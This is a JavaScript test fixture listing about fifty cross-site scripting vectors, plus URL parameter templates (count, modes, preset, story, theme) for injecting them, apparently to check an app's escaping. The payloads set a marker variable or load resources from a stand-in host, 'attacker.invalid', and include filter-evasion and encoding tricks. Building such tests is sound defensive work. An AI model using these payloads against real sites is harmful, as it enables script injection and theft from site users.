/** Cross-site scripting vectors, as values for links and messages. */

/** An injected script sets this variable, and an injected resource is requested from this address. */
const PAYLOAD = 'window.pwned=1';
const ELSEWHERE = 'https://attacker.invalid/x';

/** By kind: markup, markup that breaks out of its context, script URLs, and encoded text. */
export const VECTORS = [
  `<script>${PAYLOAD}</script>`,
  `<script src=${ELSEWHERE}.js></script>`,
  `<ScRiPt >${PAYLOAD}</sCrIpT >`,
  `<scr<script>ipt>${PAYLOAD}</scr</script>ipt>`,
  `<img src=x onerror=${PAYLOAD}>`,
  `<img src=${ELSEWHERE}.png>`,
  `<svg onload=${PAYLOAD}>`,
  `<svg><script>${PAYLOAD}</script></svg>`,
  `<svg><animate onbegin=${PAYLOAD} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${PAYLOAD}</script></svg>#x">`,
  `<math><mi xlink:href="javascript:${PAYLOAD}">1</mi></math>`,
  `<body onload=${PAYLOAD}>`,
  `<iframe srcdoc="<script>parent.${PAYLOAD}</script>"></iframe>`,
  `<iframe src="javascript:parent.${PAYLOAD}"></iframe>`,
  `<object data="javascript:${PAYLOAD}">`,
  `<embed src="${ELSEWHERE}.swf">`,
  `<input autofocus onfocus=${PAYLOAD}>`,
  `<details open ontoggle=${PAYLOAD}>`,
  `<video><source onerror=${PAYLOAD}></video>`,
  `<link rel=stylesheet href=${ELSEWHERE}.css>`,
  `<style>@import "${ELSEWHERE}.css";</style>`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${PAYLOAD}">`,
  `<form action=javascript:${PAYLOAD}><input type=submit></form>`,
  `<a href="javascript:${PAYLOAD}" autofocus>1</a>`,
  `<template><img src=x onerror=${PAYLOAD}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${PAYLOAD}>">`,
  `<!--><img src=x onerror=${PAYLOAD}>-->`,
  `"><img src=x onerror=${PAYLOAD}>`,
  `'><svg/onload=${PAYLOAD}>`,
  `" autofocus onfocus=${PAYLOAD} x="`,
  `' onmouseover='${PAYLOAD}' style='position:fixed;inset:0`,
  `</title><img src=x onerror=${PAYLOAD}>`,
  `</textarea><img src=x onerror=${PAYLOAD}>`,
  `</script><script>${PAYLOAD}</script>`,
  `]]><img src=x onerror=${PAYLOAD}>`,
  `javascript:${PAYLOAD}`,
  `java\tscript:${PAYLOAD}`,
  `data:text/html,<script>parent.${PAYLOAD}</script>`,
  `\${${PAYLOAD}}`,
  `{{constructor.constructor("${PAYLOAD}")()}}`,
  `'-(${PAYLOAD})-'`,
  `";${PAYLOAD};//`,
  `\u2028${PAYLOAD}\u2028`,
  `&lt;img src=x onerror=${PAYLOAD}&gt;`,
  `&#60;img src=x onerror=${PAYLOAD}&#62;`,
  `\\u003cimg src=x onerror=${PAYLOAD}\\u003e`,
  `%3Cimg src=x onerror=${PAYLOAD}%3E`,
  `\u0000<img src=x onerror=${PAYLOAD}>`,
  `\ufeff<img\u00a0src=x onerror=${PAYLOAD}>`,
];

/** The parameters of a link that can hold a value. */
export const PLACES = [
  (value) => `?count=${value}`,
  (value) => `?count=10&sleep=3:${value},${value}:1`,
  (value) => `?modes=sync,${value}`,
  (value) => `?preset=${value}`,
  (value) => `?story=${value}&sleep=1:1`,
  (value) => `?theme=${value}&embed=${value}&${value}=${value}`,
];
